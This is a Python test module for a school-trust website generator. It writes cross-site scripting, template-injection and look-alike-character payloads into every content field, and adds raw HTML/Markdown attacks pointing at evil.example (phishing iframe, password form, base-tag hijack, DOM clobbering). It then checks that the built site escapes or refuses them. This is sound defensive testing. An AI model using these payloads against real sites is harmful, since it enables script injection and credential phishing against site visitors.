"""Hostile content, generated from the models: every string field gets every payload.

:func:`string_fields` walks a pydantic model beside the data written for it and
yields the path of every string-typed value — present, or optional and absent — so
a field added to a model later is attacked without anyone editing the tests.
:func:`inject` writes one payload class into every such field of every file a school
or the trust writes; :func:`settle` runs the real checks and puts back the fields the
checks refuse (a refusal at the field's own line is one of the two safe outcomes);
what is left is built and must come out escaped.
"""

from __future__ import annotations

import enum
import itertools
import types
import typing
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from pydantic import BaseModel

from trusthub.content.models import (
    BRAND_FILES,
    OPTIONAL_BRAND_FILES,
    SCHOOL_FILES,
    Governors,
    PageMeta,
    School,
    StoryMeta,
)
from trusthub.content.yamlmarks import load_yaml

FieldPath = tuple[str | int, ...]

VICTIM = "brookfield"
"""The school whose folder the attacker controls."""
VICTIM_PAGE = "send.md"
"""A page of that school whose front matter and body are attacked too."""
PAGE = f"schools/{VICTIM}/{VICTIM_PAGE}"
STORY = f"schools/{VICTIM}/news/2026-11-12-science-week.md"
"""A news story of that school, whose front matter is attacked too."""
GOVERNORS = f"schools/{VICTIM}/governors.yml"


@dataclass(frozen=True)
class Payload:
    """One class of attack: the text written into a field, and what must never be published."""

    make: Callable[[str], str]
    forbidden: Callable[[str], list[str]]
    must_be_refused: bool = False
    """Fields must refuse it outright (hidden characters, look-alike letters)."""


def _alert(m: str) -> str:
    return f"alert('{m}')"


PAYLOADS: dict[str, Payload] = {
    "script tag": Payload(
        lambda m: f"Welcome <script>{_alert(m)}</script>",
        lambda m: [f"<script>{_alert(m)}"],
    ),
    "attribute breakout": Payload(
        lambda m: f"Welcome\"'><img src=x onerror={_alert(m)}>",
        lambda m: [f"<img src=x onerror={_alert(m)}"],
    ),
    "javascript url": Payload(
        lambda m: f"javascript:{_alert(m)}",
        lambda m: [f'href="javascript:{_alert(m)}', f'src="javascript:{_alert(m)}'],
    ),
    "data url": Payload(
        lambda m: f"data:text/html,<script>{_alert(m)}</script>",
        lambda m: [f"<script>{_alert(m)}", 'href="data:text/html,'],
    ),
    "template syntax": Payload(
        lambda m: f"{m}{{{{ 7*191 }}}}{{% if true %}}{m}{{% endif %}}",
        lambda m: [f"{m}1337", f"{m}{m}"],
    ),
    "style breakout": Payload(
        lambda m: f"Welcome</style><script>{_alert(m)}</script>",
        lambda m: [f"</style><script>{_alert(m)}"],
    ),
    "script breakout": Payload(
        lambda m: f"Welcome</script><img src=x onerror={_alert(m)}>",
        lambda m: [f"</script><img src=x onerror={_alert(m)}"],
    ),
    "svg onload": Payload(
        lambda m: f"Welcome <svg onload={_alert(m)}>",
        lambda m: [f"<svg onload={_alert(m)}"],
    ),
    "right-to-left override": Payload(
        lambda m: f"Brook\u202efield {m}", lambda m: [], must_be_refused=True
    ),
    "look-alike letters": Payload(
        lambda m: f"Br\u043e\u043ekfield {m}",  # Cyrillic о
        lambda m: [],
        must_be_refused=True,
    ),
}

MARKDOWN_ATTACKS = [
    "[a javascript link](javascript:alert('md1'))",
    "[a data link](data:text/html,<script>alert('md2')</script>)",
    "[a protocol-relative link](//evil.example/phish)",
    "![an image](javascript:alert('md3'))",
    "<a href=\"javascript:alert('md4')\">raw link</a>",
    '<a href="//evil.example/phish">raw protocol-relative link</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'md5\')">',
    "<p style=\"background:url(javascript:alert('md6'))\">styled</p>",
    "<svg><script>alert('md7')</script><a xlink:href=\"javascript:alert('md8')\">"
    '<text>x</text></a><animate onbegin="alert(\'md9\')" attributeName="x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('md10')\">",
    "<img src=x onerror=\"alert('md11')\">",
    '<div id="__search" data-md-component="search" '
    'data-th-switcher="https://evil.example/schools.json">clobber</div>',
    '<object data="javascript:alert(\'md12\')"></object><embed src="x.swf">',
    "<details open ontoggle=\"alert('md13')\"><summary>x</summary></details>",
]
"""Raw HTML and Markdown a school might paste into a page; the sanitiser must neutralise all."""
MARKDOWN_FORBIDDEN = [
    "javascript:alert('md",
    "<script>alert('md",
    "=\"alert('md",
    "=alert('md",
    "evil.example",
    "http-equiv",
    "<object",
    "<embed",
    '<div id="__search"',
    'data-md-component="search">clobber',
]


def _unwrap(annotation: Any) -> list[Any]:
    """The concrete types an annotation allows (Annotated, Optional and unions unpacked)."""
    origin = typing.get_origin(annotation)
    if origin is typing.Annotated:
        return _unwrap(typing.get_args(annotation)[0])
    if origin in (typing.Union, types.UnionType):
        return [t for arg in typing.get_args(annotation) for t in _unwrap(arg)]
    return [annotation]


def _is_text(kind: Any) -> bool:
    return (
        isinstance(kind, type) and issubclass(kind, str) and not issubclass(kind, enum.Enum)
    ) or getattr(kind, "__name__", "") == "EmailStr"


def string_fields(model: type[BaseModel], data: Any, path: FieldPath = ()) -> Iterator[FieldPath]:
    """Every string field of ``model`` that ``data`` has or could have."""
    data = data if isinstance(data, dict) else {}
    for name, info in model.model_fields.items():
        yield from _walk(info.annotation, data.get(name), (*path, name))


def _walk(annotation: Any, value: Any, path: FieldPath) -> Iterator[FieldPath]:
    kinds = _unwrap(annotation)
    if any(_is_text(kind) for kind in kinds) and not isinstance(value, dict | list):
        yield path
        return
    for kind in kinds:
        origin, args = typing.get_origin(kind), typing.get_args(kind)
        if isinstance(kind, type) and issubclass(kind, BaseModel) and isinstance(value, dict):
            yield from string_fields(kind, value, path)
        elif origin is list and args and not isinstance(value, str):  # interests: none
            items = value if isinstance(value, list) and value else [None]
            for index, item in enumerate(items):
                if item is None and not any(_is_text(k) for k in _unwrap(args[0])):
                    continue
                yield from _walk(args[0], item, (*path, index))
        elif origin is dict and len(args) == 2 and isinstance(value, dict):
            for key, item in value.items():
                yield from _walk(args[1], item, (*path, key))


_MISSING = object()


def _get(data: Any, path: FieldPath) -> Any:
    for part in path:
        try:
            data = data[part]
        except (KeyError, IndexError, TypeError):
            return _MISSING
    return data


def _set(data: Any, path: FieldPath, value: Any) -> None:
    for part, following in itertools.pairwise(path):
        if isinstance(data, list):
            while len(data) <= int(part):
                data.append({} if isinstance(following, str) else [])
            data = data[int(part)]
        else:
            data = data.setdefault(part, {} if isinstance(following, str) else [])
    last = path[-1]
    if isinstance(data, list):
        while len(data) <= int(last):
            data.append(None)
    if value is _MISSING:
        if isinstance(data, list):
            data.pop(int(last))
        else:
            data.pop(last, None)
    else:
        data[last] = value


@dataclass
class Target:
    """One field of one file that carries a payload."""

    file: str
    path: FieldPath
    marker: str
    original: Any
    line: int = 0


@dataclass
class Injection:
    cls: str
    targets: list[Target] = field(default_factory=list)
    refused: list[Target] = field(default_factory=list)

    @property
    def accepted(self) -> list[Target]:
        return [t for t in self.targets if t not in self.refused]


class _Document:
    """A YAML file (or a Markdown page's front matter) that can be changed and written back."""

    def __init__(self, path: Path) -> None:
        self.path = path
        text = path.read_text(encoding="utf-8")
        self.markdown = path.suffix == ".md"
        if self.markdown:
            _, front, self.body = text.split("---\n", 2)
            self.data = yaml.safe_load(front) or {}
        else:
            self.data = yaml.safe_load(text)

    def write(self) -> dict[FieldPath, int]:
        """Write the file; return the line of each value."""
        front = yaml.safe_dump(self.data, allow_unicode=True, sort_keys=False, width=10**6)
        if self.markdown:
            self.path.write_text(f"---\n{front}---\n{self.body}", encoding="utf-8")
            offset = 1
        else:
            self.path.write_text(front, encoding="utf-8")
            offset = 0
        _, marks = load_yaml(front, line_offset=offset)
        return {path: where[0] + offset for path, where in marks.values.items()}


def _documents(root: Path) -> list[tuple[str, type[BaseModel]]]:
    brand = {**BRAND_FILES, **OPTIONAL_BRAND_FILES}
    files = [
        (f"brand/{name}", model)
        for name, model in brand.items()
        if (root / "brand" / name).is_file()
    ]
    files.append((f"schools/{VICTIM}/school.yml", School))
    files += [
        (f"schools/{VICTIM}/{name}", model)
        for name, model in SCHOOL_FILES.items()
        if (root / "schools" / VICTIM / name).is_file()
    ]
    files.append((PAGE, PageMeta))
    files.append((STORY, StoryMeta))
    files.append((GOVERNORS, Governors))
    return files


def inject(root: Path, cls: str) -> Injection:
    """Write payload class ``cls`` into every string field of every attacked file."""
    payload = PAYLOADS[cls]
    injection = Injection(cls)
    number = 0
    for name, model in _documents(root):
        document = _Document(root / name)
        targets = []
        for path in string_fields(model, document.data):
            number += 1
            marker = f"TH{list(PAYLOADS).index(cls)}F{number}X"
            targets.append(Target(name, path, marker, _get(document.data, path)))
            _set(document.data, path, payload.make(marker))
        lines = document.write()
        for target in targets:
            target.line = lines.get(target.path, 0)
        injection.targets += targets
    page = root / PAGE
    page.write_text(
        page.read_text(encoding="utf-8") + "\n\n" + "\n\n".join(MARKDOWN_ATTACKS) + "\n",
        encoding="utf-8",
    )
    for index in range(len(MARKDOWN_ATTACKS)):
        injection.targets.append(Target(PAGE, ("body", index), f"md{index}", _MISSING))
    _locate_body_attacks(root, injection)
    return injection


def _locate_body_attacks(root: Path, injection: Injection) -> None:
    lines = (root / PAGE).read_text(encoding="utf-8").split("\n")
    for target in injection.targets:
        if target.path[0] == "body":
            attack = MARKDOWN_ATTACKS[int(target.path[1])]
            target.line = lines.index(attack) + 1 if attack in lines else 0


def _remove_body_attacks(root: Path, targets: list[Target]) -> None:
    page = root / PAGE
    lines = page.read_text(encoding="utf-8").split("\n")
    for target in targets:
        lines[target.line - 1] = ""
    page.write_text("\n".join(lines), encoding="utf-8")


def settle(root: Path, injection: Injection, check: Callable[[Path], list[Any]]) -> None:
    """Put back every field the checks refuse, until the content checks clean.

    ``check`` returns the error diagnostics for ``root``. An error that is not at an
    attacked field's own line is a failure: the checks must say where the problem is.
    """
    for _ in range(6):
        errors = check(root)
        if not errors:
            return
        refused = []
        for error in errors:
            hit = [
                t
                for t in injection.targets
                if t.file == error.path and t.line == error.line and t not in injection.refused
            ]
            if not hit:  # fallout in another file: a value it refers to was attacked
                hit = [
                    t
                    for t in injection.targets
                    if isinstance(t.original, str)
                    and f'"{t.original.lower()}"' in error.message.lower()
                    and t not in injection.refused
                ]
            assert hit, f"error not at an attacked field: {error}"
            refused += [t for t in hit if t not in refused]
        injection.refused += refused
        by_file: dict[str, list[Target]] = {}
        for target in refused:
            by_file.setdefault(target.file, []).append(target)
        for name, targets in by_file.items():
            _remove_body_attacks(root, [t for t in targets if t.path[0] == "body"])
            document = _Document(root / name)
            for target in targets:
                if target.path[0] != "body":
                    _set(document.data, target.path, target.original)
            lines = document.write()
            for target in injection.targets:
                if target.file == name and target.path[0] != "body":
                    target.line = lines.get(target.path, 0)
        _locate_body_attacks(root, injection)
    raise AssertionError(f"content still has errors: {check(root)}")


TEXT_SUFFIXES = {".html", ".svg", ".json", ".xml", ".css", ".js", ".webmanifest", ".txt", ".ics"}


def published_texts(site: Path) -> Iterator[tuple[str, str]]:
    """(name, text) of every text file in ``site``, and of every text file inside its zips."""
    for path in sorted(site.rglob("*")):
        if path.suffix in TEXT_SUFFIXES:
            yield path.relative_to(site).as_posix(), path.read_text(encoding="utf-8")
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                for member in archive.namelist():
                    if Path(member).suffix in TEXT_SUFFIXES | {".md", ".gpl", ".ase"}:
                        text = archive.read(member).decode("utf-8", errors="replace")
                        yield f"{path.relative_to(site).as_posix()}!{member}", text


def leaks(site: Path, injection: Injection) -> list[str]:
    """Every published place where a payload appears unescaped."""
    payload = PAYLOADS[injection.cls]
    needles = [
        (fragment, target)
        for target in injection.accepted
        for fragment in payload.forbidden(target.marker)
    ]
    found = []
    for name, text in published_texts(site):
        for fragment, target in needles:
            if fragment in text:
                found.append(f"{name}: {fragment!r} from {target.file} {target.path}")
        for fragment in MARKDOWN_FORBIDDEN if not name.endswith(".js") else []:
            if fragment in text:
                found.append(f"{name}: {fragment!r} from the page's Markdown")
    return found
